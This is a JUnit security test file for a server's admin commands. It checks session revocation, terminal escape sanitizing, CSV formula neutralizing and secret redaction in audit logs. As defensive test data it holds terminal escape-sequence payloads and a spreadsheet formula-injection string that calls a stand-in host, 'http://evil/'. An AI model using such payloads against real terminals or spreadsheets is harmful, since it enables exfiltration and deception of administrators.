package idle.server;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import idle.server.admin.LocalAdmin;
import idle.server.net.ServerContext;
import idle.shared.message.Message;
import idle.shared.message.Result;
import idle.shared.model.LenderCapabilities;
import idle.shared.tls.ServerIdentity;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Issue 11 against the real server on real sockets: what accounts and admin commands must do
 * to sessions, and what reaches an admin's terminal and CSV files. Each test is named after the
 * hole it closes.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileAdminTest {
    static final String PW = "s3cret-pass";
    static final Duration END = Duration.ofSeconds(10);

    Path dir;
    IdleServer server;

    @BeforeAll
    void start() throws Exception {
        dir = TestDirs.fresh("hostile-admin");
        server = IdleServer.start(TrustTest.config(dir.resolve("s"), TrustConfig.defaults()
                .withIdentity(ServerIdentity.generate()), Duration.ofSeconds(30)));
        server.accounts().addUser("root", PW.toCharArray(), true);
        for (String u : List.of("dora", "ella", "fred", "lena", "@cmd", "-A1")) {
            server.accounts().addUser(u, PW.toCharArray(), false);
        }
    }

    @AfterAll
    void stop() throws Exception {
        server.close();
        TestDirs.delete(dir);
    }

    /** Runs an admin command as root on a connection of its own; returns the reply. */
    Message adm(String... argv) throws Exception {
        return RawClient.admin(server, "root", PW, argv);
    }

    /** A new connection tries to resume with {@code token}: true when it was resumed. */
    boolean resumes(String token) throws Exception {
        try (RawClient c = RawClient.connect(server)) {
            int id = c.nextId();
            c.send(id, new Message.Login("raw-test/1.0", token));
            Message m = c.next(id);
            return m instanceof Message.Success;
        }
    }

    // ---- hole 11: disable and passwd end every session of the account ---------------------

    @Test
    void hole11DisablingAUserEndsItsLiveSessionAndItsResumeToken() throws Exception {
        try (RawClient dora = RawClient.connect(server)) {
            String token = dora.loginOk("dora", PW).resumeToken();
            dora.heartbeats(Duration.ofSeconds(1)); // so only the server's decision ends it
            assertInstanceOf(Message.Success.class, adm("user", "disable", "dora"));
            Message.Illegal end = dora.awaitMessage(0, Message.Illegal.class);
            assertTrue(end.reason().contains("disabled"), end.reason());
            assertTrue(dora.closedByServer(END), "dora's connection was closed");
            assertTrue(!resumes(token), "the resume token died with the account");
        } finally {
            server.accounts().enable("dora");
        }
    }

    @Test
    void hole11ChangingAPasswordEndsTheLiveSessionsAndResumeTokensOfTheAccount()
            throws Exception {
        try (RawClient one = RawClient.connect(server);
                RawClient two = RawClient.connect(server)) {
            String t1 = one.loginOk("ella", PW).resumeToken();
            String t2 = two.loginOk("ella", PW).resumeToken();
            one.heartbeats(Duration.ofSeconds(1));
            two.heartbeats(Duration.ofSeconds(1));
            assertInstanceOf(Message.Success.class,
                    adm("user", "passwd", "ella", "--password", "new-pass-1"));
            for (RawClient c : List.of(one, two)) {
                Message.Illegal end = c.awaitMessage(0, Message.Illegal.class);
                assertTrue(end.reason().contains("password"), end.reason());
                assertTrue(c.closedByServer(END), "every connection of ella was closed");
            }
            assertTrue(!resumes(t1) && !resumes(t2), "no token of ella resumes");
        }
        try (RawClient c = RawClient.connect(server)) {
            assertEquals("ella", c.loginOk("ella", "new-pass-1").user(), "the new password works");
        }
    }

    @Test
    void hole11AnAdminChangingItsOwnPasswordGetsTheAnswerThenItsSessionEnds()
            throws Exception {
        server.accounts().addUser("boss", PW.toCharArray(), true);
        try (RawClient boss = RawClient.connect(server);
                RawClient fred = RawClient.connect(server)) {
            boss.loginOk("boss", PW);
            fred.loginOk("fred", PW);
            boss.heartbeats(Duration.ofSeconds(1));
            fred.heartbeats(Duration.ofSeconds(1));
            Result.Text out = boss.requestOk(new Message.Admin(List.of("user", "passwd", "boss",
                    "--password", "another-1")), Result.Text.class);
            assertTrue(out.text().contains("boss"), out.text());
            boss.awaitMessage(0, Message.Illegal.class);
            assertTrue(boss.closedByServer(END), "then its session ends");
            // Another user's session is untouched.
            assertInstanceOf(Message.Ack.class, fred.request(new Message.Heartbeat(1)));
        }
    }

    // ---- hole 12: what reaches an admin's terminal and CSV files --------------------------

    /** Terminal controls: C0 but the newline, DEL, C1, and the bidirectional overrides. */
    static final Pattern CONTROLS = Pattern.compile(
            "[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069"
                    + "\\u2028\\u2029]");
    static final String ESCAPES = "\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e";

    String admText(String... argv) throws Exception {
        Message m = adm(argv);
        Message.Success ok = assertInstanceOf(Message.Success.class, m, String.join(" ", argv));
        return assertInstanceOf(Result.Text.class, ok.result()).text();
    }

    @Test
    void hole12EscapesSentByClientsReachNoAdminTerminalRaw() throws Exception {
        LenderCapabilities caps = new LenderCapabilities("3.11" + ESCAPES, 4, 8192, 1, 60, 1024,
                600, 64, "bwrap" + ESCAPES, false);
        try (RawLender lena = new RawLender(server, "lena", PW, caps);
                RawClient fred = RawClient.connect(server);
                RawClient stranger = RawClient.connect(server)) {
            fred.loginOk("fred", PW);
            // after login: a file name in a request, audited with the failure
            assertInstanceOf(Message.Failure.class,
                    fred.request(new Message.GetOutputFile(424242, "out" + ESCAPES)));
            // before login: a name
            stranger.login("x" + ESCAPES, "pw");
            String lenders = admText("lenders");
            assertTrue(lenders.contains(lena.pseudonym), lenders);
            TrustTest.awaitAudit(server, "fred", e -> e.getDetail() != null
                    && e.getDetail().startsWith("not found: out"), 1);
            String audit = admText("audit", "--limit", "200");
            String csv = admText("audit", "--csv", "--limit", "200");
            String jobs = admText("jobs");
            for (String out : List.of(lenders, audit, csv, jobs)) {
                var m = CONTROLS.matcher(out);
                assertTrue(!m.find(), "a control character reached the terminal in:\n" + out);
            }
            // a lender's own strings are cleaned before the server keeps them (LenderText); what
            // reaches an admin's terminal otherwise (a name in the audit log) is shown escaped
            assertTrue(lenders.contains("]0;owned"), "cleaned, not lost: " + lenders);
            assertTrue(audit.contains("out\\x1b]0;owned"), audit);
        }
    }

    @Test
    void hole12CsvCellsThatLookLikeFormulasAreNeutralized() throws Exception {
        for (String u : List.of("@cmd", "-A1")) {
            try (RawClient c = RawClient.connect(server)) {
                c.loginOk(u, PW);
            }
        }
        // An admin command's words are audited as they were typed: make one start a cell.
        adm("=HYPERLINK(\"http://evil/\"&A1)");
        adm("+1+1");
        adm("\tcmd");
        TrustTest.awaitAudit(server, "-A1", e -> true, 1);
        TrustTest.awaitAudit(server, "root", e -> e.getDetail() != null
                && e.getDetail().startsWith("\tcmd"), 1);
        String csv = admText("audit", "--csv", "--limit", "1000");
        List<String> cells = csvCells(csv);
        assertTrue(cells.contains("'@cmd") && cells.contains("'-A1"), "neutralized names: " + csv);
        for (String cell : cells) {
            assertTrue(cell.isEmpty() || cell.matches("-?\\d+")
                    || "=+-@\t\r".indexOf(cell.charAt(0)) < 0,
                    "a cell a spreadsheet would run: [" + cell + "]");
        }
        assertTrue(cells.stream().anyMatch(c -> c.startsWith("'=HYPERLINK")), csv);
    }

    @Test
    void hole12AFailedAdminCommandIsAuditedRedactedAndCapped() throws Exception {
        adm("user", "add", "zed", "--pasword", "hunter2-typo"); // a typo: not --password
        adm("user", "passwd", "nobody", "--password", "hunter3-missing");
        adm("user", "add", "zed2", "hunter4-positional");
        adm("user", "add", "zed3", "--secret=hunter5-secret");
        List<String> lots = new ArrayList<>(List.of("jobs", "--name"));
        lots.add("y".repeat(20_000));
        adm(lots.toArray(String[]::new));
        var rows = TrustTest.awaitAudit(server, "root", e -> "ADM".equals(e.getCode())
                && "FLD".equals(e.getOutcome()), 5);
        for (var e : rows) {
            String d = e.getDetail();
            for (String secret : List.of("hunter2", "hunter3", "hunter4", "hunter5")) {
                assertTrue(!d.contains(secret), "a secret in the audit: " + d);
            }
            assertTrue(d.length() <= 1000, "capped: " + d.length() + " characters");
        }
        assertTrue(rows.stream().anyMatch(e -> e.getDetail().contains("--pasword ***")),
                "still says what was typed, without the value");
        // The same for a local admin command on a stopped server's directory.
        Path local = dir.resolve("local");
        LocalAdmin.run(local, List.of("user", "add", "root", "--admin", "--password", "pw-1"));
        try {
            LocalAdmin.run(local, List.of("user", "add", "zed", "--pasword", "hunter6-local"));
        } catch (ServerContext.AdminFailure expected) {
            // refused; now look at what was audited
        }
        String audit = LocalAdmin.run(local, List.of("audit"));
        assertTrue(audit.contains("--pasword ***") && !audit.contains("hunter6"), audit);
    }

    /** The cells of a CSV text (RFC 4180 quoting), row after row. */
    static List<String> csvCells(String csv) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\n') {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }
}
